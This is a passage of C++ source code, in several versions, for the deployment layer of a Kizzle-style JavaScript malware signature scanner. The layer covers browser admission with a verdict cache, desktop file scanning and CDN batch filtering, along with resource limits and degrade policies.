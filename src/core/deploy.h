// Deployment channels (paper §I.A).
//
// "We envision the possibilities of deploying Kizzle in a variety of
//  settings: within a browser, client-side, to scan all or some of the
//  incoming JavaScript code; on the desktop to scan files that are saved
//  to the file system ...; lastly, server-side, for instance, a CDN
//  administrator may decide which JavaScript files to host."
//
// All three channels consume one compiled signature set through the
// unified scan engine (engine/engine.h): SignatureBundle is a thin façade
// over an immutable engine::Database (compiled patterns + the shared
// Aho–Corasick prefilter, built once at signature-release time and shipped
// as a `.kpf` artifact, core/sigdb.h), and every channel scans with
// per-worker engine::Scratch instances drawn from a pool — the steady-state
// scan path allocates nothing. Matching is event-driven: the engine
// delivers MatchEvents and the channels stop at the first one, which is
// also where the Verdict's signature index and match span come from. The
// channels differ only in what they scan and in their latency budget:
//
//   BrowserGate   per-script admission at execution time. Pages re-serve
//                 the same scripts constantly, so verdicts are memoized on
//                 a content-hash LRU — the common case must cost a hash
//                 lookup, not a scan. Scripts that arrive from the network
//                 in pieces go through begin_script()/feed()/finish(): the
//                 engine stream carries the automaton state across chunk
//                 boundaries, so by end of transfer only candidate
//                 confirmation is left.
//   DesktopScanner  scans whole files written to disk (browser caches);
//                 file content is arbitrary, so raw normalization is used.
//                 Large files stream through begin_file()/scan_stream() in
//                 fixed-size chunks — the raw bytes are never fully
//                 resident, only the (whitespace-stripped) normalized
//                 text.
//   CdnFilter     batch admission: partitions a candidate set into
//                 hostable / rejected, with deterministic per-signature
//                 hit counts for the administrator. Candidates are scanned
//                 in parallel across a thread pool; batches are isolated
//                 per call, so concurrent filter() calls may share it.
#pragma once

#include <cstdint>
#include <iosfwd>
#include <list>
#include <memory>
#include <mutex>
#include <optional>
#include <span>
#include <string>
#include <string_view>
#include <unordered_map>
#include <utility>
#include <vector>

#include "core/pipeline.h"
#include "engine/engine.h"

namespace kizzle {
class ThreadPool;
}

namespace kizzle::core {

// A read-only view over a pipeline's deployed signatures, compiled once.
// All deployment adapters share one SignatureBundle; it owns the
// engine::Database they scan against (database()) plus the deployment
// metadata (info()). The bundle's own match()/match_among()/begin_stream()
// survive as a first-match convenience façade delegating to the engine.
// Immutable after construction, so concurrent match() calls are safe.
class SignatureBundle {
 public:
  explicit SignatureBundle(const std::vector<DeployedSignature>& signatures);

  // Loads a `.kpf` bundle artifact (core/sigdb.h): the signature set plus
  // the release-time prebuilt prefilter, skipping the per-process
  // automaton rebuild. Throws std::runtime_error on malformed input.
  explicit SignatureBundle(std::istream& artifact);

  // Zero-copy variant over a mapped artifact: the engine database borrows
  // its automaton tables from the mapping (engine::Database::from_artifact
  // mapped overload) and keeps it alive for the bundle's lifetime.
  explicit SignatureBundle(
      std::shared_ptr<const support::MappedFile> artifact);

  // The compiled engine database: scan it with engine::scan /
  // engine::open_stream and a Scratch of your own.
  const engine::Database& database() const { return db_; }

  // Index of the first matching signature, or nullopt.
  std::optional<std::size_t> match(std::string_view normalized) const;

  // Confirms an ascending candidate list (as produced by the prefilter or
  // an engine stream over it) against `normalized`, first match wins.
  std::optional<std::size_t> match_among(
      std::span<const std::size_t> candidates,
      std::string_view normalized) const;

  // Resumable first-match scan over normalized text that arrives in
  // chunks; a façade over engine::open_stream. Result is identical to
  // match() on the concatenation.
  class StreamMatch {
   public:
    void feed(std::string_view normalized_chunk);
    std::optional<std::size_t> finish() const;
    const std::string& normalized() const { return stream_.text(); }

   private:
    friend class SignatureBundle;
    explicit StreamMatch(const SignatureBundle* bundle);
    // A pooled scratch handle: the scratch arrives warm, lives on the heap
    // (so the engine stream's borrowed pointer survives moves of the
    // StreamMatch itself) and returns to the bundle's pool on destruction.
    engine::ScratchPool::Handle scratch_;
    engine::Stream stream_;
  };
  StreamMatch begin_stream() const { return StreamMatch(this); }

  const match::LiteralPrefilter& prefilter() const { return db_.prefilter(); }

  const DeployedSignature& info(std::size_t index) const;
  std::size_t size() const { return infos_.size(); }

 private:
  std::vector<DeployedSignature> infos_;
  engine::Database db_;
  mutable engine::ScratchPool scratches_;
};

// What a channel answers when a scan hits its resource envelope
// (engine::ScanLimits) without having found a match: admit the content
// anyway (fail-open — availability over coverage, the browser's choice:
// blocking every slow page script is indistinguishable from breaking the
// web) or block it (fail-closed — coverage over availability, the
// desktop/CDN choice: an unscannable file is a suspicious file). Either
// way the verdict records that it was degraded, so the decision is
// auditable and a hostile stream can't silently exhaust a worker into
// one behavior or the other. A match found *before* the limit tripped is
// never degraded: a partial scan that already found the kit is a real
// verdict.
enum class DegradePolicy : std::uint8_t { kFailOpen, kFailClosed };

inline const char* degrade_policy_name(DegradePolicy p) {
  return p == DegradePolicy::kFailOpen ? "fail-open" : "fail-closed";
}

struct Verdict {
  static constexpr std::size_t npos = static_cast<std::size_t>(-1);

  bool malicious = false;
  std::string signature;  // name of the matching signature when malicious
  std::string family;
  // Populated from the engine's MatchEvent when malicious: the index of
  // the matching signature in the bundle and the match span in the
  // normalized scan text — callers no longer re-derive them by name. All
  // three are npos on a clean verdict.
  std::size_t signature_index = npos;
  std::size_t match_begin = npos;
  std::size_t match_end = npos;
  // How the underlying scan ended (engine/limits.h) and whether
  // `malicious` was decided by the channel's DegradePolicy rather than by
  // the scan itself (no match found, scan incomplete). Degraded verdicts
  // are never memoized.
  engine::ScanStatus scan_status = engine::ScanStatus::kComplete;
  bool degraded = false;
};

// ------------------------------- browser -------------------------------

class BrowserGate {
 public:
  // Testing seam: the primary cache key function. Production uses
  // fnv1a64; tests inject deliberately weak hashes to force collisions.
  using HashFn = std::uint64_t (*)(std::string_view);

  BrowserGate(const SignatureBundle* bundle, std::size_t cache_capacity = 512,
              HashFn hash = nullptr);

  // Admission check for one inline script about to execute. Verdicts are
  // memoized by content hash (LRU); a cache entry additionally records the
  // script length and an independent second fingerprint, so a primary-hash
  // collision between two distinct scripts falls through to a real scan
  // instead of returning the other script's verdict. Thread-safe: the
  // cache is mutex-guarded, and the scan itself runs outside the lock on a
  // pooled per-worker scratch.
  Verdict check_script(std::string_view script_source);

  // Chunked admission for a script still arriving from the network. The
  // engine stream runs over the raw-normalized bytes as they land;
  // finish() resolves the verdict through the same memoization cache as
  // check_script (and is byte-for-byte equivalent to it). One ScriptStream
  // per in-flight script; distinct streams on one gate are safe
  // concurrently.
  class ScriptStream {
   public:
    void feed(std::string_view chunk);
    Verdict finish();

   private:
    friend class BrowserGate;
    explicit ScriptStream(BrowserGate* gate);
    BrowserGate* gate_;
    std::string raw_;    // full source (cache key + normalize_js)
    std::string stage_;  // per-chunk normalization staging buffer
    engine::ScratchPool::Handle scratch_;  // warm, returned to the gate's pool
    engine::Stream stream_;
    bool done_ = false;
  };
  ScriptStream begin_script() { return ScriptStream(this); }

  // Resource governance: every scan this gate runs (one-shot and
  // streamed) uses `limits`; on breach without a match the verdict
  // follows the degrade policy (default fail-open: an admission gate
  // that blocks slow-but-benign scripts breaks pages). Configure before
  // scanning — not synchronized with in-flight scans.
  void set_limits(const engine::ScanLimits& limits) { limits_ = limits; }
  const engine::ScanLimits& limits() const { return limits_; }
  void set_degrade_policy(DegradePolicy policy) { policy_ = policy; }
  DegradePolicy degrade_policy() const { return policy_; }

  std::uint64_t cache_hits() const;
  std::uint64_t cache_misses() const;
  // Primary-hash collisions detected (entry found but length/second
  // fingerprint disagreed; a real scan was performed).
  std::uint64_t cache_collisions() const;

 private:
  struct Entry {
    Verdict verdict;
    std::size_t length = 0;          // collision guard 1: exact size
    std::uint64_t fingerprint2 = 0;  // collision guard 2: independent hash
    std::list<std::uint64_t>::iterator position;
  };

  // Cache probe/insert under lock; the scan between them runs unlocked.
  std::optional<Verdict> cache_lookup(std::uint64_t key, std::size_t length,
                                      std::uint64_t fp2);
  void cache_store(std::uint64_t key, std::size_t length, std::uint64_t fp2,
                   const Verdict& verdict);
  Verdict finish_stream(ScriptStream& stream);

  const SignatureBundle* bundle_;
  std::size_t capacity_;
  HashFn hash_;
  engine::ScanLimits limits_;
  DegradePolicy policy_ = DegradePolicy::kFailOpen;
  engine::ScratchPool scratches_;
  // Guards lru_/cache_ and all counters: check_script and concurrent
  // ScriptStream finishes race on them otherwise (CdnFilter already
  // advertises concurrent use of the sibling channel).
  mutable std::mutex mu_;
  std::list<std::uint64_t> lru_;  // hash keys, most recent first
  std::unordered_map<std::uint64_t, Entry> cache_;
  std::uint64_t cache_hits_ = 0;
  std::uint64_t cache_misses_ = 0;
  std::uint64_t cache_collisions_ = 0;
};

// ------------------------------- desktop -------------------------------

class DesktopScanner {
 public:
  explicit DesktopScanner(const SignatureBundle* bundle);

  // Scans one file's content (any type: cached HTML, bare .js, fragments —
  // raw AV normalization handles all of them).
  Verdict scan_file(std::string_view content) const;

  // Chunked variant for files too large to slurp: raw normalization is
  // per-byte, so each chunk is normalized and streamed through the engine
  // as it is read; only the normalized text is kept for candidate
  // confirmation. Equivalent to scan_file on the concatenated content.
  class FileStream {
   public:
    void feed(std::string_view raw_chunk);
    Verdict finish() const;

   private:
    friend class DesktopScanner;
    explicit FileStream(const DesktopScanner* scanner);
    const DesktopScanner* scanner_;  // for the degrade policy at finish()
    std::string stage_;  // per-chunk normalization staging buffer
    engine::ScratchPool::Handle scratch_;  // warm, from the scanner's pool
    engine::Stream stream_;
  };
  FileStream begin_file() const { return FileStream(this); }

  // Reads `in` to EOF in `chunk_size`-byte pieces through a FileStream.
  Verdict scan_stream(std::istream& in, std::size_t chunk_size = 1 << 16) const;

  // Resource governance, as on BrowserGate. Default fail-closed: a file
  // the scanner could not fully cover stays quarantined — on disk there
  // is no page to break, and an unscannable file is a suspicious file.
  void set_limits(const engine::ScanLimits& limits) { limits_ = limits; }
  const engine::ScanLimits& limits() const { return limits_; }
  void set_degrade_policy(DegradePolicy policy) { policy_ = policy; }
  DegradePolicy degrade_policy() const { return policy_; }

 private:
  const SignatureBundle* bundle_;
  engine::ScanLimits limits_;
  DegradePolicy policy_ = DegradePolicy::kFailClosed;
  mutable engine::ScratchPool scratches_;
};

// --------------------------------- CDN ---------------------------------

class CdnFilter {
 public:
  // `threads` sizes the scan pool owned by the filter (created lazily on
  // the first batch that fans out, reused across filter() calls); 0 =
  // hardware concurrency.
  explicit CdnFilter(const SignatureBundle* bundle, std::size_t threads = 0);
  ~CdnFilter();

  struct Report {
    std::vector<std::size_t> hostable;  // indices into the candidate list
    std::vector<std::size_t> rejected;
    // Hit counts per signature name, sorted ascending by name: byte-stable
    // across runs, platforms and scheduling.
    std::vector<std::pair<std::string, std::size_t>> hits_per_signature;
    // Candidates whose scan breached the filter's ScanLimits without a
    // match: the degrade policy placed them (fail-closed → rejected,
    // fail-open → hostable), and they are listed here so the
    // administrator sees which placements the policy decided. Ascending,
    // disjoint from signature hits.
    std::vector<std::size_t> degraded;
  };

  // Partitions candidate files for hosting. Candidates are normalized and
  // scanned in parallel; the report lists indices in ascending order
  // regardless of scheduling. Safe to call from several threads —
  // concurrent batches share the pool, each waiting on its own completion
  // latch.
  Report filter(std::span<const std::string> candidates) const;

  // Resource governance, as on the other channels. Default fail-closed:
  // a CDN administrator would rather re-review a file than host one the
  // scanner never finished looking at.
  void set_limits(const engine::ScanLimits& limits) { limits_ = limits; }
  const engine::ScanLimits& limits() const { return limits_; }
  void set_degrade_policy(DegradePolicy policy) { policy_ = policy; }
  DegradePolicy degrade_policy() const { return policy_; }

 private:
  const SignatureBundle* bundle_;
  engine::ScanLimits limits_;
  DegradePolicy policy_ = DegradePolicy::kFailClosed;
  std::size_t threads_;
  mutable engine::ScratchPool scratches_;
  mutable std::mutex pool_mu_;  // guards lazy pool creation only
  mutable std::unique_ptr<ThreadPool> pool_;
};

}  // namespace kizzle::core
