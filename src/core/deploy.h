// Deployment channels (paper §I.A).
//
// "We envision the possibilities of deploying Kizzle in a variety of
//  settings: within a browser, client-side, to scan all or some of the
//  incoming JavaScript code; on the desktop to scan files that are saved
//  to the file system ...; lastly, server-side, for instance, a CDN
//  administrator may decide which JavaScript files to host."
//
// All three channels consume the same deployed signature set; they differ
// in what they scan and in their latency budget:
//
//   BrowserGate   per-script admission at execution time. Pages re-serve
//                 the same scripts constantly, so verdicts are memoized on
//                 a content-hash LRU — the common case must cost a hash
//                 lookup, not a scan.
//   DesktopScanner  scans whole files written to disk (browser caches);
//                 file content is arbitrary, so raw normalization is used.
//   CdnFilter     batch admission: partitions a candidate set into
//                 hostable / rejected, with per-signature hit counts for
//                 the administrator. Candidates are scanned in parallel
//                 across a thread pool; the report stays deterministic.
#pragma once

#include <cstdint>
#include <list>
#include <memory>
#include <mutex>
#include <optional>
#include <span>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "core/pipeline.h"
#include "match/prefilter.h"

namespace kizzle {
class ThreadPool;
}

namespace kizzle::core {

// A read-only view over a pipeline's deployed signatures, compiled once.
// All deployment adapters share one SignatureBundle. Matching runs through
// a shared Aho–Corasick literal prefilter (match/prefilter.h): one pass
// over the text yields the candidate signatures, which are then confirmed
// in index order with early exit — the whole database is no longer
// re-searched to find the first match. Immutable after construction, so
// concurrent match() calls are safe.
class SignatureBundle {
 public:
  explicit SignatureBundle(const std::vector<DeployedSignature>& signatures);

  // Index of the first matching signature, or nullopt.
  std::optional<std::size_t> match(std::string_view normalized) const;

  const DeployedSignature& info(std::size_t index) const;
  std::size_t size() const { return infos_.size(); }

 private:
  std::vector<DeployedSignature> infos_;
  std::vector<match::Pattern> compiled_;
  match::LiteralPrefilter prefilter_;
};

struct Verdict {
  bool malicious = false;
  std::string signature;  // name of the matching signature when malicious
  std::string family;
};

// ------------------------------- browser -------------------------------

class BrowserGate {
 public:
  BrowserGate(const SignatureBundle* bundle, std::size_t cache_capacity = 512);

  // Admission check for one inline script about to execute. Verdicts are
  // memoized by content hash (LRU).
  Verdict check_script(std::string_view script_source);

  std::uint64_t cache_hits() const { return cache_hits_; }
  std::uint64_t cache_misses() const { return cache_misses_; }

 private:
  const SignatureBundle* bundle_;
  std::size_t capacity_;
  // hash -> (verdict, LRU position)
  std::list<std::uint64_t> lru_;
  struct Entry {
    Verdict verdict;
    std::list<std::uint64_t>::iterator position;
  };
  std::unordered_map<std::uint64_t, Entry> cache_;
  std::uint64_t cache_hits_ = 0;
  std::uint64_t cache_misses_ = 0;
};

// ------------------------------- desktop -------------------------------

class DesktopScanner {
 public:
  explicit DesktopScanner(const SignatureBundle* bundle);

  // Scans one file's content (any type; HTML gets script extraction,
  // everything else raw normalization).
  Verdict scan_file(std::string_view content) const;

 private:
  const SignatureBundle* bundle_;
};

// --------------------------------- CDN ---------------------------------

class CdnFilter {
 public:
  // `threads` sizes the scan pool owned by the filter (created lazily on
  // the first batch that fans out, reused across filter() calls); 0 =
  // hardware concurrency.
  explicit CdnFilter(const SignatureBundle* bundle, std::size_t threads = 0);
  ~CdnFilter();

  struct Report {
    std::vector<std::size_t> hostable;   // indices into the candidate list
    std::vector<std::size_t> rejected;
    std::unordered_map<std::string, std::size_t> hits_per_signature;
  };

  // Partitions candidate files for hosting. Candidates are normalized and
  // scanned in parallel; the report lists indices in ascending order
  // regardless of scheduling. Safe to call from several threads —
  // concurrent batches are serialized on the filter's pool.
  Report filter(std::span<const std::string> candidates) const;

 private:
  const SignatureBundle* bundle_;
  std::size_t threads_;
  mutable std::mutex filter_mu_;  // one batch on the pool at a time
  mutable std::unique_ptr<ThreadPool> pool_;
};

}  // namespace kizzle::core
