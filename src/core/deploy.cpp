#include "core/deploy.h"

#include <istream>
#include <map>
#include <optional>
#include <stdexcept>

#include "core/sigdb.h"
#include "support/hash.h"
#include "support/thread_pool.h"
#include "text/html.h"
#include "text/normalize.h"

namespace kizzle::core {

SignatureBundle::SignatureBundle(
    const std::vector<DeployedSignature>& signatures)
    : infos_(signatures), db_(engine::Database::compile(signatures)) {}

SignatureBundle::SignatureBundle(std::istream& artifact)
    : db_(engine::Database::from_artifact(artifact, &infos_)) {}

SignatureBundle::SignatureBundle(
    std::shared_ptr<const support::MappedFile> artifact)
    : db_(engine::Database::from_artifact(std::move(artifact), &infos_)) {}

std::optional<std::size_t> SignatureBundle::match(
    std::string_view normalized) const {
  // Events arrive in ascending index order, so the first event IS the
  // first matching signature — the engine stops there.
  auto scratch = scratches_.acquire();
  const auto hit = engine::first_match(db_, normalized, *scratch);
  if (!hit) return std::nullopt;
  return hit->sig_index;
}

std::optional<std::size_t> SignatureBundle::match_among(
    std::span<const std::size_t> candidates,
    std::string_view normalized) const {
  auto scratch = scratches_.acquire();
  std::optional<std::size_t> hit;
  engine::confirm(db_, candidates, normalized, *scratch,
                  [&hit](const engine::MatchEvent& event) {
                    hit = event.sig_index;
                    return engine::ScanDecision::Stop;
                  });
  return hit;
}

SignatureBundle::StreamMatch::StreamMatch(const SignatureBundle* bundle)
    : scratch_(bundle->scratches_.acquire()),
      stream_(engine::open_stream(bundle->db_, *scratch_)) {}

void SignatureBundle::StreamMatch::feed(std::string_view normalized_chunk) {
  stream_.feed(normalized_chunk);
}

std::optional<std::size_t> SignatureBundle::StreamMatch::finish() const {
  const auto hit = stream_.finish_first();
  if (!hit) return std::nullopt;
  return hit->sig_index;
}

const DeployedSignature& SignatureBundle::info(std::size_t index) const {
  if (index >= infos_.size()) {
    throw std::out_of_range("SignatureBundle::info: bad index");
  }
  return infos_[index];
}

namespace {

Verdict verdict_from(const std::optional<engine::MatchEvent>& hit) {
  Verdict v;
  if (hit) {
    v.malicious = true;
    v.signature = std::string(hit->name);
    v.family = std::string(hit->family);
    v.signature_index = hit->sig_index;
    v.match_begin = hit->begin;
    v.match_end = hit->end;
  }
  return v;
}

// The channel-side verdict rule: a match is a match no matter how the
// scan ended; an incomplete scan with NO match is decided by the degrade
// policy and flagged so it never enters a memoization cache.
Verdict degrade(Verdict v, engine::ScanStatus status, DegradePolicy policy) {
  v.scan_status = status;
  if (!v.malicious && status != engine::ScanStatus::kComplete) {
    v.degraded = true;
    v.malicious = policy == DegradePolicy::kFailClosed;
  }
  return v;
}

// One-shot first-match scan of `normalized` on a pooled scratch, governed
// by the channel's limits and policy.
Verdict verdict_of(const SignatureBundle& bundle, engine::ScratchPool& pool,
                   std::string_view normalized,
                   const engine::ScanLimits& limits, DegradePolicy policy) {
  auto scratch = pool.acquire();
  scratch->set_limits(limits);
  std::optional<engine::MatchEvent> hit;
  const engine::ScanOutcome outcome = engine::scan(
      bundle.database(), normalized, *scratch,
      [&hit](const engine::MatchEvent& event) {
        hit = event;
        return engine::ScanDecision::Stop;
      });
  return degrade(verdict_from(hit), outcome.status, policy);
}

// Opens an engine stream on a pooled scratch with the channel's limits
// armed (open_stream arms the stream deadline from the scratch's limits,
// so they must be set first).
engine::Stream open_governed(const engine::Database& db,
                             engine::Scratch& scratch,
                             const engine::ScanLimits& limits) {
  scratch.set_limits(limits);
  return engine::open_stream(db, scratch);
}

// First-match finish of a governed stream: outcome + event in one pass.
Verdict finish_governed(const engine::Stream& stream, DegradePolicy policy) {
  std::optional<engine::MatchEvent> hit;
  const engine::ScanOutcome outcome =
      stream.finish([&hit](const engine::MatchEvent& event) {
        hit = event;
        return engine::ScanDecision::Stop;
      });
  return degrade(verdict_from(hit), outcome.status, policy);
}

// Second, algorithm-independent content fingerprint for the BrowserGate
// cache: a 64-bit polynomial hash (different base and basis than fnv1a64)
// folded with the length and finalized with splitmix64. Two scripts that
// collide on the primary key are vanishingly unlikely to also collide
// here AND share a length.
std::uint64_t second_fingerprint(std::string_view s) {
  std::uint64_t h = 0x9AE16A3B2F90404Full;
  for (const unsigned char c : s) {
    h = h * 0x9DDFEA08EB382D69ull + c;
  }
  return splitmix64_mix(h ^ static_cast<std::uint64_t>(s.size()));
}

}  // namespace

// ------------------------------- browser -------------------------------

BrowserGate::BrowserGate(const SignatureBundle* bundle,
                         std::size_t cache_capacity, HashFn hash)
    : bundle_(bundle),
      capacity_(cache_capacity),
      hash_(hash != nullptr ? hash
                            : static_cast<HashFn>(
                                  [](std::string_view s) { return fnv1a64(s); })) {
  if (bundle_ == nullptr) {
    throw std::invalid_argument("BrowserGate: null bundle");
  }
  if (capacity_ == 0) capacity_ = 1;
}

std::optional<Verdict> BrowserGate::cache_lookup(std::uint64_t key,
                                                 std::size_t length,
                                                 std::uint64_t fp2) {
  std::lock_guard<std::mutex> lock(mu_);
  const auto it = cache_.find(key);
  if (it == cache_.end()) {
    ++cache_misses_;
    return std::nullopt;
  }
  if (it->second.length != length || it->second.fingerprint2 != fp2) {
    // Primary-hash collision between distinct scripts: the cached verdict
    // belongs to someone else's content. Fall through to a real scan.
    ++cache_collisions_;
    ++cache_misses_;
    return std::nullopt;
  }
  ++cache_hits_;
  lru_.erase(it->second.position);
  lru_.push_front(key);
  it->second.position = lru_.begin();
  return it->second.verdict;
}

void BrowserGate::cache_store(std::uint64_t key, std::size_t length,
                              std::uint64_t fp2, const Verdict& verdict) {
  std::lock_guard<std::mutex> lock(mu_);
  if (const auto it = cache_.find(key); it != cache_.end()) {
    // Either a concurrent miss on the same script or a collision victim:
    // latest scan wins the slot.
    it->second.verdict = verdict;
    it->second.length = length;
    it->second.fingerprint2 = fp2;
    lru_.erase(it->second.position);
    lru_.push_front(key);
    it->second.position = lru_.begin();
    return;
  }
  lru_.push_front(key);
  cache_.emplace(key, Entry{verdict, length, fp2, lru_.begin()});
  if (cache_.size() > capacity_) {
    cache_.erase(lru_.back());
    lru_.pop_back();
  }
}

Verdict BrowserGate::check_script(std::string_view script_source) {
  const std::uint64_t key = hash_(script_source);
  const std::uint64_t fp2 = second_fingerprint(script_source);
  if (const auto cached = cache_lookup(key, script_source.size(), fp2)) {
    return *cached;
  }
  // Scan outside the lock: memoization must not serialize the scans.
  const Verdict v = verdict_of(*bundle_, scratches_,
                               text::normalize_js(script_source), limits_,
                               policy_);
  // A degraded verdict reflects this scan's resource weather, not the
  // script's content: caching it would pin a policy answer onto a hash.
  if (!v.degraded) cache_store(key, script_source.size(), fp2, v);
  return v;
}

BrowserGate::ScriptStream::ScriptStream(BrowserGate* gate)
    : gate_(gate),
      scratch_(gate->scratches_.acquire()),
      stream_(open_governed(gate->bundle_->database(), *scratch_,
                            gate->limits_)) {}

void BrowserGate::ScriptStream::feed(std::string_view chunk) {
  raw_ += chunk;
  // Raw normalization is per-byte, so it streams chunk by chunk; the
  // automaton state carries across the boundary inside the engine stream.
  stage_.clear();
  text::normalize_raw_append(chunk, stage_);
  stream_.feed(stage_);
}

Verdict BrowserGate::ScriptStream::finish() {
  if (done_) {
    throw std::logic_error("BrowserGate::ScriptStream: finish() called twice");
  }
  done_ = true;
  return gate_->finish_stream(*this);
}

Verdict BrowserGate::finish_stream(ScriptStream& stream) {
  const std::uint64_t key = hash_(stream.raw_);
  const std::uint64_t fp2 = second_fingerprint(stream.raw_);
  if (const auto cached = cache_lookup(key, stream.raw_.size(), fp2)) {
    return *cached;
  }
  Verdict v;
  const std::string normalized = text::normalize_js(stream.raw_);
  if (normalized == stream.stream_.text()) {
    // Comment-free script (the overwhelmingly common case): token-level
    // normalization equals the raw normalization the engine stream already
    // ran over, so the prefilter pass is done — only the candidates still
    // need VM confirmation.
    v = finish_governed(stream.stream_, policy_);
  } else {
    // Comments (or lexer divergence) changed the scan text: rerun the
    // one-shot path on the token-normalized form check_script would use.
    // (A truncated stream also lands here — the dropped raw bytes make
    // the texts differ — so truncation still yields a full governed scan
    // of the token-normalized source rather than a half-scanned stream.)
    v = verdict_of(*bundle_, scratches_, normalized, limits_, policy_);
  }
  if (!v.degraded) cache_store(key, stream.raw_.size(), fp2, v);
  return v;
}

std::uint64_t BrowserGate::cache_hits() const {
  std::lock_guard<std::mutex> lock(mu_);
  return cache_hits_;
}

std::uint64_t BrowserGate::cache_misses() const {
  std::lock_guard<std::mutex> lock(mu_);
  return cache_misses_;
}

std::uint64_t BrowserGate::cache_collisions() const {
  std::lock_guard<std::mutex> lock(mu_);
  return cache_collisions_;
}

// ------------------------------- desktop -------------------------------

DesktopScanner::DesktopScanner(const SignatureBundle* bundle)
    : bundle_(bundle) {
  if (bundle_ == nullptr) {
    throw std::invalid_argument("DesktopScanner: null bundle");
  }
}

Verdict DesktopScanner::scan_file(std::string_view content) const {
  // Files on disk are arbitrary bytes (cached HTML, bare .js, fragments):
  // raw AV normalization handles all of them, and signature construction
  // guarantees raw-normalized script content is matchable (see
  // text/normalize.h).
  return verdict_of(*bundle_, scratches_, text::normalize_raw(content),
                    limits_, policy_);
}

DesktopScanner::FileStream::FileStream(const DesktopScanner* scanner)
    : scanner_(scanner),
      scratch_(scanner->scratches_.acquire()),
      stream_(open_governed(scanner->bundle_->database(), *scratch_,
                            scanner->limits_)) {}

void DesktopScanner::FileStream::feed(std::string_view raw_chunk) {
  stage_.clear();
  text::normalize_raw_append(raw_chunk, stage_);
  stream_.feed(stage_);
}

Verdict DesktopScanner::FileStream::finish() const {
  return finish_governed(stream_, scanner_->policy_);
}

Verdict DesktopScanner::scan_stream(std::istream& in,
                                    std::size_t chunk_size) const {
  if (chunk_size == 0) chunk_size = 1;
  FileStream stream = begin_file();
  std::string buf(chunk_size, '\0');
  while (in) {
    in.read(buf.data(), static_cast<std::streamsize>(buf.size()));
    const std::streamsize got = in.gcount();
    if (got <= 0) break;
    stream.feed(std::string_view(buf.data(), static_cast<std::size_t>(got)));
  }
  return stream.finish();
}

// --------------------------------- CDN ---------------------------------

CdnFilter::CdnFilter(const SignatureBundle* bundle, std::size_t threads)
    : bundle_(bundle), threads_(threads) {
  if (bundle_ == nullptr) {
    throw std::invalid_argument("CdnFilter: null bundle");
  }
}

CdnFilter::~CdnFilter() = default;

CdnFilter::Report CdnFilter::filter(
    std::span<const std::string> candidates) const {
  // Normalize + scan each candidate in parallel (the database is immutable
  // and shared read-only; scratches come from the per-worker pool), then
  // aggregate sequentially in index order so the report is deterministic.
  // The pool is created on the first batch that fans out and lives with
  // the filter, so repeated batches don't pay thread churn;
  // single-candidate batches skip the fan-out entirely. parallel_for
  // batches are isolated by per-call completion latches, so concurrent
  // filter() calls interleave safely on the shared pool.
  std::vector<std::optional<std::size_t>> verdicts(candidates.size());
  std::vector<engine::ScanStatus> statuses(candidates.size(),
                                           engine::ScanStatus::kComplete);
  // One pooled scratch per contiguous range, not per candidate: the pool
  // mutex is touched a handful of times per batch instead of twice per
  // sample.
  const auto scan_range = [&](std::size_t, std::size_t begin,
                              std::size_t end) {
    auto scratch = scratches_.acquire();
    scratch->set_limits(limits_);
    for (std::size_t i = begin; i < end; ++i) {
      std::optional<engine::MatchEvent> hit;
      const engine::ScanOutcome outcome = engine::scan(
          bundle_->database(), text::normalize_raw(candidates[i]), *scratch,
          [&hit](const engine::MatchEvent& event) {
            hit = event;
            return engine::ScanDecision::Stop;
          });
      if (hit) verdicts[i] = hit->sig_index;
      statuses[i] = outcome.status;
    }
  };
  if (candidates.size() < 2) {
    scan_range(0, 0, candidates.size());
  } else {
    ThreadPool* pool = nullptr;
    {
      std::lock_guard<std::mutex> lock(pool_mu_);
      if (pool_ == nullptr) pool_ = std::make_unique<ThreadPool>(threads_);
      pool = pool_.get();
    }
    pool->parallel_ranges(candidates.size(), pool->size() * 4, scan_range);
  }

  Report report;
  std::map<std::string, std::size_t> hits;  // sorted by name -> stable output
  for (std::size_t i = 0; i < candidates.size(); ++i) {
    if (verdicts[i]) {
      // A match decides the candidate regardless of scan status.
      report.rejected.push_back(i);
      ++hits[bundle_->info(*verdicts[i]).name];
    } else if (statuses[i] != engine::ScanStatus::kComplete) {
      // Incomplete scan, no match: placement is the degrade policy's
      // call, recorded so the administrator can re-queue these.
      report.degraded.push_back(i);
      if (policy_ == DegradePolicy::kFailClosed) {
        report.rejected.push_back(i);
      } else {
        report.hostable.push_back(i);
      }
    } else {
      report.hostable.push_back(i);
    }
  }
  report.hits_per_signature.assign(hits.begin(), hits.end());
  return report;
}

}  // namespace kizzle::core
