#include "core/deploy.h"

#include <optional>
#include <stdexcept>

#include "support/hash.h"
#include "support/thread_pool.h"
#include "text/html.h"
#include "text/normalize.h"

namespace kizzle::core {

SignatureBundle::SignatureBundle(
    const std::vector<DeployedSignature>& signatures) {
  infos_ = signatures;
  compiled_.reserve(signatures.size());
  for (const DeployedSignature& s : signatures) {
    compiled_.push_back(match::Pattern::compile(s.pattern));
    prefilter_.add(compiled_.size() - 1, compiled_.back().required_literal());
  }
  prefilter_.build();
}

std::optional<std::size_t> SignatureBundle::match(
    std::string_view normalized) const {
  // Candidates come back in ascending index order, so the first confirmed
  // candidate IS the first matching signature — no need to run the rest.
  // The buffer is reused per thread: this runs once per sample inside the
  // CdnFilter batch fan-out.
  thread_local std::vector<std::size_t> candidates;
  prefilter_.candidates_into(normalized, candidates);
  for (const std::size_t i : candidates) {
    if (compiled_[i].search(normalized).matched) return i;
  }
  return std::nullopt;
}

const DeployedSignature& SignatureBundle::info(std::size_t index) const {
  if (index >= infos_.size()) {
    throw std::out_of_range("SignatureBundle::info: bad index");
  }
  return infos_[index];
}

namespace {

Verdict verdict_of(const SignatureBundle& bundle,
                   std::string_view normalized) {
  Verdict v;
  if (const auto hit = bundle.match(normalized)) {
    v.malicious = true;
    v.signature = bundle.info(*hit).name;
    v.family = bundle.info(*hit).family;
  }
  return v;
}

}  // namespace

// ------------------------------- browser -------------------------------

BrowserGate::BrowserGate(const SignatureBundle* bundle,
                         std::size_t cache_capacity)
    : bundle_(bundle), capacity_(cache_capacity) {
  if (bundle_ == nullptr) {
    throw std::invalid_argument("BrowserGate: null bundle");
  }
  if (capacity_ == 0) capacity_ = 1;
}

Verdict BrowserGate::check_script(std::string_view script_source) {
  const std::uint64_t key = fnv1a64(script_source);
  if (auto it = cache_.find(key); it != cache_.end()) {
    ++cache_hits_;
    // Refresh LRU position.
    lru_.erase(it->second.position);
    lru_.push_front(key);
    it->second.position = lru_.begin();
    return it->second.verdict;
  }
